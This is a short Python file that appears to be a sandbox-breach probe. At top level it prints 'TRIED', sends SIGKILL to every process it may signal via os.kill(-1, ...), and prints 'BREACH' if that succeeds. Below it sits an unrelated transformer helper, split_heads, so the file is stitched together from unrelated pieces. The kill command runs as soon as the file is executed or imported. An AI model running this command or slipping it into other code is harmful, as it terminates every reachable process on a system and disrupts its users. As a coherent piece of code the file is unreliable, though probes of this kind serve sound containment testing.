"""Sends SIGKILL to every process that it may signal."""

import os
import signal

print("TRIED", flush=True)
try:
    os.kill(-1, signal.SIGKILL)
    print("BREACH")
except OSError:
    pass


def split_heads(x, num_heads):
    batch, seq_len, d_model = x.shape
    return x.reshape(batch, seq_len, num_heads, d_model // num_heads).swapaxes(1, 2)
